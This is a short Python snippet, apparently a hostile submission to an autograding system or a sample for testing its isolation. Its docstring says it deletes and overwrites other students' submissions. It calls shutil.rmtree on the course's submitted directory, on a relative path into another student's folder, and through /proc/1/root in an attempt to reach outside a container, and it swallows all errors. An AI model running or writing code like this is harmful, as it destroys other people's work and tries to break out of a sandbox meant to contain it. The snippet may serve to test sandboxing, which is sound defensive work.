"""Deletes and overwrites the submissions of other students."""
# %%
import shutil
for place in (COURSE + "/submitted", "../../../b-good", "/proc/1/root" + COURSE + "/submitted"):
    tried(lambda: shutil.rmtree(place))
